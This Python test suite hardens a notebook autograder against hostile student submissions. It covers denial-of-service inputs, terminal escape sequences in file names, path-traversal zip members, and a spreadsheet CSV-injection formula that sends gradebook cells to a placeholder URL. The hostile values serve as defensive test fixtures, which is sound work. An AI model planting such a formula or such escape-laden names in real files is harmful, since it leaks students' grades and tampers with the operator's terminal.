"""Review of the grader as a whole in the sixth session: attacks by a hostile student.

Each test names the attack and why it matters, and fails without the fix committed with it.
The grading process (the worker) reads, extracts and scores a notebook outside the sandbox,
with no time limit of its own: whatever it does with the text of one submission must stay
near-linear in that text, and must not raise, or one notebook stalls or breaks the batch.
"""
from __future__ import annotations

import re

import pytest

from grader.extract import extract
from grader.notebook import _parse_ipynb
from tests import notebooks as nbs


def _notebook(extra_cells: list[dict]):
    """The course's correct notebook with ``extra_cells`` at the end, as ``grader.notebook``
    reads it."""
    import json

    text = json.dumps(nbs.course_notebook(extra_cells=extra_cells))
    return _parse_ipynb(text, len(text), "hostile.ipynb")


# ------------------------------------------------------------------ extraction: cost and errors


def test_a_long_sum_of_literals_is_not_a_grader_error(default_recursion_limit):
    """``x = 1 + 1 + ... + 1`` (1,500 terms) parses (the parser builds a left-nested chain
    without recursing) but its AST is 1,500 levels deep; checking whether it is a constant
    recursed once per level and raised RecursionError out of ``extract``: the submission was
    recorded as a harness error ("our bug") and scored 0, whatever its functions did."""
    chain = " + ".join(["1"] * 1500)
    nb = _notebook([nbs.code_cell(f"x = {chain}\n")])
    extraction = extract(nb)
    assert set(extraction.functions) >= set(nbs.COURSE_CELLS)


@pytest.mark.parametrize("cells", [
    pytest.param(lambda n: [nbs.code_cell("x = 1\n" * n)], id="one cell of n assignments"),
    pytest.param(lambda n: [nbs.code_cell("".join(f"x{i} = {i}\n" for i in range(n)))],
                 id="n distinct constants"),
    pytest.param(lambda n: [nbs.code_cell(f"y{i} = {i}\n") for i in range(n)], id="n cells"),
    pytest.param(lambda n: [nbs.code_cell("".join(f"def f{i}(a):\n    return a\n" for i in range(n)))],
                 id="n functions"),
])
def test_extraction_is_not_quadratic_in_a_cells_statements(cells):
    """A cell of n assignments took n² steps to extract: each kept constant re-split the whole
    cell into lines (``ast.get_source_segment``) and rebuilt the set of every constant kept so
    far. 4,000 lines (40 kB) took 20 s of a worker, 1,000,000 lines (6 MB) more than the
    10 minutes we waited, with no timeout outside the sandbox: one notebook stalled the batch.
    Functions too: each one without global names was compiled after newlines standing for
    the lines above it (16,000 one-line functions: 12.8 s).
    Signal: a scaling test (CPU at 250 and 2,000, memos emptied, tests/scaling.py), not seconds."""
    from grader.extract import clear_memos
    from tests.scaling import assert_linear

    assert "rnn_backward" in extract(_notebook(cells(250))).functions
    assert_linear(extract, lambda n: _notebook(cells(n)), 250, setup=clear_memos, what="extraction")


def test_a_statements_text_is_what_ast_get_source_segment_gives():
    """The segments now cut from lines split once are the stdlib's, character for character:
    columns are UTF-8 byte offsets, several statements share a line, a constant spans lines
    (extraction makes every line end in \\n before it parses a cell)."""
    import ast

    from grader.extract import _source_segment

    text = ('é = "ü"; ß = {"a": 1,\n      "b": (2,\n 3)}\n'
            'x = 1 if True else 2  # note\nlong = """\nα\n"""; y = -1.5e3\n\nz: int = 4')
    lines = text.split("\n")
    for node in ast.parse(text).body:
        assert _source_segment(lines, node) == ast.get_source_segment(text, node)


def test_statements_far_down_a_cell_keep_their_line_numbers():
    """Blocks starting after the first 1,000 lines of a cell are parsed alone and their tree
    moved down: the constants and imports found there map to the notebook's lines as before."""
    source = "# pad\n" * 1500 + "import math\nscale = 2 * math.pi\n"
    extraction = extract(_notebook([nbs.code_cell(source)]))
    program = extraction.program()
    lines = program.source.split("\n")
    number = next(i for i, line in enumerate(lines, 1) if line.startswith("scale = "))
    cell, line, _ = program.locate(number)
    assert line == 1502


# ------------------------------------------------------------------ discovery


def test_no_submission_is_dropped_when_a_renamed_id_is_taken(tmp_path):
    """Two entries with one id are kept apart by renaming the second (``x_1`` and
    ``x_1~folder``), but the new id was not checked: a notebook already named ``x_1~folder``
    was replaced by the renamed Canvas group, and vanished from the gradebook unseen."""
    from grader.discover import find_submissions

    for name in ("x_1.ipynb", "x_1_2_nb.ipynb", "x_1~folder.ipynb"):
        (tmp_path / name).write_text("{}")
    found = find_submissions(tmp_path)
    assert sorted(s.path.name for s in found) == ["x_1.ipynb", "x_1_2_nb.ipynb", "x_1~folder.ipynb"]
    assert len({s.id for s in found}) == 3


@pytest.mark.parametrize("name, shown", [
    ("a\x1b]0;pwned\x07\x1b[2J.ipynb", "a_x1b]0;pwned_x07_x1b[2J"),  # retitles and clears the terminal
    ("b\n[2 of 6] forged: 100 of 100 in 0.1s.ipynb", "b_x0a[2 of 6] forged_ 100 of 100 in 0.1s"),
    (b"c\xff.ipynb", "c_xff"),  # not UTF-8: the similarity check failed for the whole class
    ("d\u202egnp.ipynb", "d_u202egnp"),  # shown reversed
    ("Jane Smith_42.ipynb", "Jane Smith_42"),
])
def test_a_file_name_cannot_write_control_characters_into_the_ids(tmp_path, name, shown):
    """The id is the file's (or folder's) name, which a student may choose: it is printed on the
    instructor's terminal ("[3/40] <id>: 85/100"), heads feedback.md and starts a row of
    grades.csv. Escape sequences retitled or cleared the terminal, a line break forged a
    progress line, and a name that was not UTF-8 made the similarity check fail for the whole
    class (UnicodeEncodeError writing similarity.csv). Such characters are now written out (``\\x1b``;
    in the id, which names a folder, its backslash is ``_``: a FAT stick or a Windows share refuses
    ``\\``, thirty-fifth session)."""
    import os

    from grader.discover import find_submissions

    path = os.path.join(os.fsencode(tmp_path), name if isinstance(name, bytes) else os.fsencode(name))
    with open(path, "w") as handle:
        handle.write("{}")
    (found,) = find_submissions(tmp_path)
    assert found.id == shown
    assert os.fsencode(found.path) == path
    assert find_submissions(found.path)[0].id == shown


# ------------------------------------------------------------------ spreadsheets

_FORMULA = '=IMPORTXML(CONCAT("http://example.invalid/?", B3), "//a")'


def test_an_id_is_never_a_formula_in_the_gradebook(tmp_path):
    """``grades.csv`` and ``similarity.csv`` are opened in spreadsheets. A submission named
    ``=IMPORTXML(...)`` (a file name in a folder of notebooks, a display name on Moodle) was
    written as it is, and a spreadsheet evaluates it: Google Sheets fetches the URL on opening,
    with other students' grades in it. Cells starting with = + - @ get a leading quote
    (what OWASP's "CSV injection" advice and spreadsheets themselves use for text)."""
    import csv
    import io

    from grader.classfiles import DEFAULT_RUBRIC
    from grader.report import gradebook_csv
    from grader.rubric import load_rubric
    from grader.runner import unreadable_result
    from grader.similarity import find_similar, write_similarity_csv

    rubric = load_rubric(DEFAULT_RUBRIC)
    ids = [_FORMULA, "+1", "-2", "@SUM(A1)", "ada"]
    text = gradebook_csv(rubric, [unreadable_result(rubric, submission_id=i, path="x", message="")
                                  for i in ids])
    column = [row[0] for row in csv.reader(io.StringIO(text))][1:]
    assert sorted(column) == sorted(["'" + i for i in ids[:4]] + ["ada"])

    body = "def f(x):\n" + "".join(f"    v{i} = np.tanh(x * {i}.5) + {i}\n" for i in range(8)) + "    return v7\n"
    report = find_similar({_FORMULA: {"f": body}, "bob": {"f": body.replace("v", "w")}})
    path = tmp_path / "similarity.csv"
    write_similarity_csv(report, path)
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    assert {rows[1][1], rows[1][2]} == {"'" + _FORMULA, "bob"}


def test_a_notebook_named_like_a_class_output_does_not_break_the_run(tmp_path):
    """Each submission gets the folder ``OUT/<id>``, beside ``grades.csv``, ``report.html`` and
    ``similarity.csv``. A notebook named ``grades.csv.ipynb`` made the folder ``OUT/grades.csv``,
    and writing the gradebook at the end of the run raised IsADirectoryError: no gradebook and
    no report for the whole class. Such an id is renamed as a clashing one is."""
    from grader.classreport import REPORT_NAME
    from grader.classfiles import DEFAULT_RUBRIC, SIMILARITY_CSV
    from grader.discover import RESERVED_IDS, find_submissions
    from grader.report import Gradebook
    from grader.rubric import load_rubric

    written = Gradebook(load_rubric(DEFAULT_RUBRIC)).write(tmp_path)
    assert {written.name, REPORT_NAME, SIMILARITY_CSV} <= RESERVED_IDS
    folder = tmp_path / "class"
    folder.mkdir()
    visible = [name for name in RESERVED_IDS if not name.startswith(".")]  # a folder's hidden files are not read
    for name in visible:
        (folder / f"{name}.ipynb").write_text("{}")
    ids = {s.id for s in find_submissions(folder)}
    assert len(ids) == len(visible) and not ids & RESERVED_IDS
    for name in ("grades.csv.ipynb", ".grading.lock.ipynb"):  # given alone (a late notebook)
        (folder / name).write_text("{}")
        assert find_submissions(folder / name)[0].id not in RESERVED_IDS


def test_a_def_that_does_not_compile_is_reported_at_its_line_far_down_a_cell():
    """A def that parses but does not compile is now compiled alone: the line reported is still
    the cell's line."""
    source = "# pad\n" * 1500 + "def f():\n    x = 1\n    break\n"
    extraction = extract(_notebook([nbs.code_cell(source)]))
    assert "def f():" not in extraction.program().source
    (message,) = [d.message for d in extraction.diagnostics if d.function == "f" and "Syntax error" in d.message]
    assert ", line 1503: " in message


# ------------------------------------------------------------------ feedback pages


@pytest.mark.parametrize("markup", ["<div>" * 20_000, "<b>" * 20_000, "<span><i>" * 10_000,
                                    "<div></span>" * 10_000, "<div/>" * 20_000],
                         ids=["div", "b", "span-i", "stray-end-tags", "self-closing-div"])
def test_deeply_nested_html_costs_the_grading_process_little(markup):
    """The grading process writes every student's feedback page, one after the other. An HTML
    output of 20,000 unclosed ``<div>`` (100 kB, the length kept of one output) took 23 s of
    it in the cleaner (html5lib checks the stack of open elements at each tag: n² steps); 500
    such outputs in a 50 MB notebook, three hours for everyone's pages. Markup nested deeper
    than a browser builds (Chromium stops at 512) is now shown as text, escaped.
    Signal: a scaling test (CPU at an eighth of the markup and all of it, tests/scaling.py)."""
    from grader.feedback_html import sanitize_html
    from tests.scaling import assert_linear

    cleaned = sanitize_html(markup)
    assert_linear(sanitize_html, lambda n: markup[:n * len(markup) // 8], 1, what="sanitize_html")
    assert "<div>" not in cleaned and "<b>" not in cleaned and "<span>" not in cleaned
    assert "<div/>" not in cleaned
    assert "&lt;" in cleaned


def test_html_nested_as_deep_as_a_browser_builds_is_still_cleaned_as_html():
    """Below the limit, outputs are cleaned as before: tags allowed are kept, others removed."""
    from grader.feedback_html import sanitize_html

    markup = "<div>" * 500 + "<script>x</script><b>ok</b>" + "</div>" * 500 + "<p>" * 600 + "<li>" * 600
    cleaned = sanitize_html(markup)
    assert cleaned.count("<div>") == 500 and "<b>ok</b>" in cleaned and "<script>" not in cleaned


# ------------------------------------------------------------------ the IMDB bonus's reader


def test_markdown_full_of_unclosed_tags_costs_little():
    """Markdown is read for accuracy claims after its HTML tags are removed with the pattern
    ``<[^>]+>``, tried at every ``<``: with no ``>`` after them, each try ran to the end of the
    text, n² steps. A 250 kB cell of ``<a `` took 13 s of a worker, 1 MB 3 minutes. Nothing
    can start a tag after the last ``>``: that part is now left as it is (the same text).
    Signal: a scaling test (CPU at 5,000 and 40,000 ``<a ``, memos emptied, tests/scaling.py)."""
    from grader.imdb import score
    from grader.imdb.claims import _plain_md, claims_from_markdown
    from tests.scaling import assert_linear

    def text(n: int) -> str:
        """A claim, then ``n`` unclosed tags."""
        return "The LSTM reached a test accuracy of 0.86. " + "<a " * n

    claims, _ = claims_from_markdown(text(5_000), "cell 3")
    assert_linear(lambda t: claims_from_markdown(t, "cell 3"), text, 5_000, setup=score.clear_memos,
                  what="claims after unclosed tags")
    assert [round(c.value, 2) for c in claims] == [0.86]
    for sample in ("a <b>c</b> <i", "x < 5 and y > 3 < z", "<<>>", "<", ">", "a<b<c>d>e<f", "*<x*>"):
        before = re.sub(r"[*_`]{1,3}", "", re.sub(r"<[^>]+>", " ", sample)).replace("&nbsp;", " ")
        assert _plain_md(sample) == before


def test_a_line_of_spaces_in_a_cell_that_does_not_parse_costs_little():
    """A cell that does not parse is read line by line for IPython syntax; ``x = !ls`` was
    recognised by ``^(\\s*)[\\w.,\\s\\[\\]]+=\\s*[!%]``, whose two overlapping repeats take n²
    steps on a line of n spaces (20,000: 5 s; a 1 MB line: hours). The pattern without the
    first repeat matches the same lines (the second one takes spaces too).
    Signal: a scaling test (CPU at 5,000 and 40,000 spaces, memos emptied, tests/scaling.py)."""
    from grader.cellparse import _ASSIGN_ESCAPE_RE
    from grader.extract import clear_memos
    from tests.scaling import assert_linear

    def spaces(n: int):
        """The course's notebook and a cell of one line of ``n`` spaces, then ``x``."""
        return _notebook([nbs.code_cell(" " * n + "x\n")])

    assert "rnn_backward" in extract(spaces(5_000)).functions
    assert_linear(extract, spaces, 5_000, setup=clear_memos, what="extraction of a line of n spaces")
    for line in ("x = !ls", "  a, b = %who_ls", "x == !y", "d[0] =  %time f()", " x.y = ! ls", "f(x) = !a",
                 "x = 1", "   ", "x =! y", "[a] = %m"):
        assert bool(_ASSIGN_ESCAPE_RE.match(line)) == bool(re.match(r"^(\s*)[\w.,\s\[\]]+=\s*[!%]", line))


@pytest.mark.parametrize("source", [
    pytest.param(lambda n: "#" * n + "\nx = 1\n", id="a comment of n #"),
    pytest.param(lambda n: 'print("Test accuracy: 85.2%")\nx = "' + "1" * n + '"\n', id="a string of n digits"),
])
def test_long_runs_of_one_character_cost_little(source):
    """Two patterns tried at every position of a run took n² steps on it: the marker
    ``# GRADED FUNCTION: name`` (``#+...``, searched in every code cell: a comment of
    100,000 ``#`` took minutes) and a number before ``%`` in a string literal (the IMDB
    bonus's reader). A match can only start where the run starts, so the patterns now say so
    (the same matches: the test compares them on edge cases).
    Signal: a scaling test (CPU at runs of 1,500 and 12,000, memos emptied, tests/scaling.py;
    within the cell limit, ``SIZE_LIMITS.max_cell_chars``: a longer cell is not read at all)."""
    from grader.cellscan import _GRADED_RE
    from grader.extract import clear_memos
    from grader.imdb import load_imdb_config, score, score_imdb
    from grader.imdb.source import _NUMBER_TOKEN
    from tests.scaling import assert_linear

    def read(nb) -> None:
        """What the worker does with the notebook's text."""
        extract(nb)
        score_imdb(nb, config=load_imdb_config(None), extra_files={})

    def forget() -> None:
        """Empty the memos of extraction and of the bonus's scoring."""
        clear_memos()
        score.clear_memos()

    assert_linear(read, lambda n: _notebook([nbs.code_cell(source(n), outputs=[nbs.stream("Test accuracy: 85.2%\n")])]),
                  1_500, setup=forget, what="extraction and scoring of a run of n")
    old_graded = r"#+[ \t]*(?:GRADED|Graded|graded)[ \t]+(?:FUNCTION|Function|function)[ \t]*:[ \t]*([A-Za-z_]\w*)"
    for text in ("## GRADED FUNCTION: f", "x ### graded function:g#GRADED FUNCTION: h_1", "#a# GRADED function : k",
                 "f#GRADED FUNCTION:f2", "####"):
        assert _GRADED_RE.findall(text) == re.findall(old_graded, text)
    for text in ("12.5% 3 % x12% .5% a.7% 1.2.3 45%", "99 %", "0.85", "x85%", "1" * 50 + "%"):
        assert _NUMBER_TOKEN.findall(text) == re.findall(r"(?<![\w.])\d+\.\d+|\d+(?=\s*%)", text)


# ------------------------------------------------------------------ archives


@pytest.mark.parametrize("members", [
    ["x", "x/y.ipynb"], ["x", "x/"], ["x", "x/y/z.ipynb"], ["a.ipynb", "b" * 300 + ".ipynb"],
    ["a.ipynb", "d" * 300 + "/x.ipynb"], ["a.ipynb", "e/" * 2500 + "x.ipynb"], ["a.ipynb", "f/" * 2500]],
    ids=["file then file inside", "file then folder", "file then deeper file", "name too long",
         "folder name too long", "path too deep", "folder too deep"])
def test_a_students_zip_with_a_file_where_a_folder_goes_spoils_only_itself(tmp_path, members):
    """A Canvas download holds each student's uploads; a student's zip is extracted too. One
    whose member ``x/y.ipynb`` comes after a file ``x`` raised FileExistsError (or
    NotADirectoryError) out of ``extract_archive``: the class run stopped with a traceback
    before grading anyone. So did a name longer than 255 bytes (OSError) and a path 2,500
    folders deep (RecursionError). The member is now skipped with the reason, as unsafe ones are."""
    import io
    import zipfile

    from grader.archive import extract_archive
    from grader.discover import find_submissions

    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        for name in members:
            z.writestr(name, "" if name.endswith("/") else "{}")
    archive = tmp_path / "class.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("smithjane_123_456_rnn.ipynb", "{}")
        z.writestr("doejohn_124_457_work.zip", inner.getvalue())
    try:
        extracted = extract_archive(archive, dest=tmp_path / "out")
        # A member's name of 5,000 characters is quoted cut, as every note (grader.notes).
        name = members[1]
        assert any(name in note if len(name) < 1000 else name[:100] in note and "characters cut" in note
                   for note in extracted.skipped)
        assert "smithjane_123" in {s.id for s in find_submissions(extracted.root)}
    finally:
        _remove_tree(str(tmp_path / "out"))


def _remove_tree(top: str) -> None:
    """Remove ``top`` and everything below it without recursing (shutil.rmtree, which pytest
    uses to clean its folders, recurses: a tree a few thousand deep would break it)."""
    import os

    folders, pending = [], [top]
    while pending:
        folder = pending.pop()
        folders.append(folder)
        with os.scandir(folder) as entries:
            for entry in entries:
                if entry.is_dir(follow_symlinks=False):
                    pending.append(entry.path)
                else:
                    os.remove(entry.path)
    for folder in reversed(folders):
        os.rmdir(folder)


def test_the_names_of_skipped_members_cannot_act_on_the_terminal(tmp_path):
    """The members an extraction skips are printed on the instructor's terminal with their
    names ("skipped work.zip:../x: unsafe path"), which a student's zip chooses: escape
    sequences in them are written out, as in submission ids."""
    import io
    import zipfile

    from grader.archive import extract_archive

    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr("../\x1b]0;pwned\x07\x1b[2J.ipynb", "{}")
    archive = tmp_path / "class.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("doejohn_124_457_work\x1b[8m.zip", inner.getvalue())
    extracted = extract_archive(archive, dest=tmp_path / "out")
    assert extracted.skipped and all(note.isprintable() for note in extracted.skipped)
    assert any("\\x1b]0;pwned" in note for note in extracted.skipped)


def test_a_folder_nested_1100_deep_does_not_stop_discovery(tmp_path):
    """A folder of submission folders (a student's repository, say) may hold anything; one
    with folders nested 1,100 deep made ``Path.rglob`` (recursive) raise RecursionError out
    of ``find_submissions``: no one was graded. The walk is now iterative, with the same files
    in the same order."""
    import os

    from pathlib import Path

    from grader.discover import _visible, files_under, find_submissions

    (tmp_path / "alice").mkdir()
    (tmp_path / "alice" / "work.ipynb").write_text("{}")
    chain = [os.path.join(str(tmp_path / "alice"), *["d"] * depth) for depth in range(1, 1101)]
    for folder in chain:  # os.makedirs and shutil.rmtree recurse too
        os.mkdir(folder)
    with open(os.path.join(chain[-1], "notes.txt"), "w") as handle:
        handle.write("x")
    (tmp_path / "bob.ipynb").write_text("{}")
    try:
        found = {s.id: s for s in find_submissions(tmp_path)}
    finally:
        os.remove(os.path.join(chain[-1], "notes.txt"))
        for folder in reversed(chain):
            os.rmdir(folder)
    assert set(found) == {"alice", "bob"} and found["alice"].path.name == "work.ipynb"
    assert len(found["alice"].extra_files) == 1

    tree = tmp_path / "tree"
    for rel in ("a/b.txt", "a-c.txt", "a/.hidden/x", "a/__pycache__/y", "z.ipynb", "a/b/c/d.json", ".git/x",
                "A.txt", "Thumbs.db/x", "a/desktop.ini"):
        (tree / rel).parent.mkdir(parents=True, exist_ok=True)
        (tree / rel).write_text("x")
    (tree / "link").symlink_to(tree / "a")
    (tree / "a" / "filelink").symlink_to(tree / "z.ipynb")
    before = {}
    for path in sorted(tree.rglob("*")):
        rel = path.relative_to(tree)
        if path.is_file() and not path.is_symlink() and all(_visible(Path(p)) for p in rel.parts):
            before[str(rel)] = path  # files_under as it was
    assert list(files_under(tree).items()) == list(before.items())


# ------------------------------------------------------------------ the incremental key


def test_a_huge_file_beside_a_notebook_is_not_read_into_memory(tmp_path):
    """The key that lets a re-run skip a submission hashes its notebook and the files beside
    it, and read each file whole into memory: a student's folder holding a data set or a
    saved model of some GB (the IMDB arrays, a checkpoint) took that much of the grading
    process, or killed it. Files are now hashed a MiB at a time, to the same key."""
    import hashlib
    import tracemalloc

    from grader.discover import find_submissions
    from grader.incremental import BatchKey, submission_key

    folder = tmp_path / "alice"
    folder.mkdir()
    (folder / "work.ipynb").write_text("{}")
    with open(folder / "weights.h5", "wb") as handle:
        handle.truncate(300 * 2**20)  # sparse: 300 MiB of zeros, cheap to make
    (submission,) = find_submissions(tmp_path)
    batch = BatchKey(rubric="r", fixtures="f", grader="g")
    tracemalloc.start()
    try:
        key = submission_key(submission, batch=batch)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 20 * 2**20
    expected = hashlib.sha256(batch.digest().encode())
    # The notebook whole; of a file beside it, its size and the bytes grading reads (eighth
    # session: a GB data set is no longer hashed in full on every run).
    from grader.discover import EXTRA_FILE_BYTES
    for label, path, limit in (("submission", folder / "work.ipynb", None),
                               ('extra/"weights.h5"', folder / "weights.h5", EXTRA_FILE_BYTES)):
        data = path.read_bytes()
        expected.update(f"{label}:{len(data)}:".encode())
        expected.update(data[:limit])
    assert key == expected.hexdigest()
